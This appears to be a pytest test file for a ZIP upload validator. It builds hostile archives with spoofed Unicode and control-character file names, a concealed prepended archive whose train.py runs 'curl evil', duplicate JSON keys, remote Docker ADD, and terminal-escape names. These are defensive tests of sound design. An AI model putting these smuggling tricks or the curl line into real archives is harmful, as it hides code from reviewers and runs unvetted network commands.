"""Class 6, ZIP checks: look-alike names (NFC/NFD, case), every Unicode control/bidi/separator
character, data hidden before the first local header, duplicate JSON keys and NaN/Infinity in
config files, remote `ADD`, ENTRYPOINT parsed (not found by substring in a comment), and
findings printed so that no entry name can forge a line or move the terminal's cursor."""

from __future__ import annotations

import io
import json
import unicodedata
import warnings
import zipfile
from pathlib import Path

import pytest

from tests.support.hostile import trainkit
from tests.support.template_tree import ARCH, TOP, valid_files, write_zip
from trainkit.validation import validate_path

pytestmark = pytest.mark.hostile

A = f"{TOP}/{ARCH}"
DOCKERFILE = f"{ARCH}/docker/Dockerfile"


def raw_zip(path: Path, extra: list[tuple[str, bytes]], files: dict | None = None) -> Path:
    with warnings.catch_warnings():
        warnings.simplefilter("ignore")
        with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as zf:
            for rel, data in sorted((files or valid_files()).items()):
                zf.writestr(f"{TOP}/{rel}", data)
            for name, data in extra:
                zf.writestr(name, data)
    return path


def finding(report, level: str, path: str, fragment: str) -> bool:
    return any(
        f.level == level and f.path == path and fragment in f.message for f in report.findings
    )


@pytest.mark.parametrize("form", ["NFD", "case"])
def test_look_alike_twin_names(tmp_path, form):
    name = f"{A}/docker/caf\u00e9.py"  # NFC
    twin = unicodedata.normalize("NFD", name) if form == "NFD" else name.replace("caf", "CAF")
    assert twin != name
    report = validate_path(raw_zip(tmp_path / "t.zip", [(name, b"x=1\n"), (twin, b"x=2\n")]))
    assert finding(report, "ERROR", twin, "after Unicode normalisation (NFC) and case folding")
    assert not report.ok


@pytest.mark.parametrize(
    "char", ["\x7f", "\x85", "\x9b", "\u2028", "\u2029", "\u202e", "\u2066", "\u200b", "\ufeff"]
)
def test_control_and_bidi_characters_in_names(tmp_path, char):
    name = f"{A}/docker/evil{char}gpj.py"
    report = validate_path(raw_zip(tmp_path / "t.zip", [(name, b"x=1\n")]))
    assert finding(report, "ERROR", name, f"U+{ord(char):04X}"), report.lines()
    assert not report.ok


def test_data_before_the_first_local_header(tmp_path):
    """A second archive in front of the real one: `unzip` and Python read the real one (by the
    central directory), some tools read the first local headers."""
    hidden = io.BytesIO()
    with zipfile.ZipFile(hidden, "w") as zf:
        zf.writestr(f"{A}/docker/train.py", "import os; os.system('curl evil')\n")
    real = write_zip(tmp_path / "real.zip", valid_files()).read_bytes()
    combined = tmp_path / "t.zip"
    combined.write_bytes(hidden.getvalue() + real)
    with zipfile.ZipFile(combined) as zf:  # still a readable ZIP for the platform
        assert f"{A}/config/custom.json" in zf.namelist()
    report = validate_path(combined)
    assert finding(report, "ERROR", ".", "bytes of data before the first local header")
    assert not report.ok


@pytest.mark.parametrize(
    ("rel", "text", "fragment"),
    [
        (f"{ARCH}/config/custom.json",
         '{"model_filepath": "/workspace/output/model.pt", "score_name": "Accuracy", '
         '"score_regexp": "Accuracy: ([0-9.]+)", "score_regexp": "(.*)"}',
         "duplicate key 'score_regexp'"),
        (f"{ARCH}/config/presets.json", '{"learning-rate": NaN}', "NaN is not a JSON number"),
        (f"{ARCH}/config/export_config.json", '{"opset_version": Infinity}', "Infinity is not"),
    ],
)  # fmt: skip
def test_duplicate_keys_and_non_finite_numbers_in_config_files(tmp_path, rel, text, fragment):
    json.loads(text)  # Python's json (the platform's check) accepts all of these
    files = {**valid_files(), rel: text.encode()}
    report = validate_path(write_zip(tmp_path / "t.zip", files))
    assert finding(report, "ERROR", f"{TOP}/{rel}", fragment), report.lines()


def dockerfile_with(old: str, new: str) -> dict[str, bytes]:
    text = valid_files()[DOCKERFILE].decode()
    assert old in text
    return {**valid_files(), DOCKERFILE: text.replace(old, new).encode()}


def test_remote_add_is_an_error(tmp_path):
    files = dockerfile_with("COPY .env ./\n", "COPY .env ./\nADD https://example.org/w.bin /w\n")
    report = validate_path(write_zip(tmp_path / "t.zip", files))
    assert finding(report, "ERROR", f"{TOP}/{DOCKERFILE}", "ADD fetches 'https://example.org")


@pytest.mark.parametrize(
    "entrypoint",
    [
        'ENTRYPOINT ["python", "train.py"] # docker-entrypoint.sh',
        "ENTRYPOINT echo docker-entrypoint.sh",
        'ENTRYPOINT ["/bin/bash", "-c", "echo /docker-entrypoint.sh"]',
    ],
)
def test_entrypoint_is_parsed_not_found_by_substring(tmp_path, entrypoint):
    files = dockerfile_with('ENTRYPOINT ["/bin/bash", "/docker-entrypoint.sh"]', entrypoint)
    report = validate_path(write_zip(tmp_path / "t.zip", files))
    assert finding(report, "ERROR", f"{TOP}/{DOCKERFILE}", "ENTRYPOINT must run"), report.lines()


@pytest.mark.parametrize(
    "entrypoint", ["ENTRYPOINT /docker-entrypoint.sh", 'ENTRYPOINT ["/docker-entrypoint.sh"]']
)
def test_entrypoint_forms_that_run_the_script_pass(tmp_path, entrypoint):
    files = dockerfile_with('ENTRYPOINT ["/bin/bash", "/docker-entrypoint.sh"]', entrypoint)
    report = validate_path(write_zip(tmp_path / "t.zip", files))
    assert not [f for f in report.errors if "ENTRYPOINT" in f.message], report.lines()


def test_names_cannot_forge_a_line_or_move_the_cursor(tmp_path):
    forged = f"{A}/docker/x\nOK: {TOP}.zip: 0 error(s), 0 warning(s)"
    escape = f"{A}/docker/\x1b[2K\x1b[1Aclean.py"
    zip_path = raw_zip(tmp_path / "t.zip", [(forged, b""), (escape, b"")])
    proc = trainkit("validate", str(zip_path), cwd=tmp_path, timeout=120)
    assert proc.returncode == 1
    output = proc.stdout + proc.stderr
    assert "\x1b" not in output
    assert not [line for line in output.splitlines() if line.startswith("OK")], output
    assert "x\\nOK:" in proc.stdout and "\\x1b[2K" in proc.stdout
    assert all(line.startswith(("ERROR ", "WARNING ", "NOTE ", "FAILED")) for line in
               output.splitlines()), output  # fmt: skip
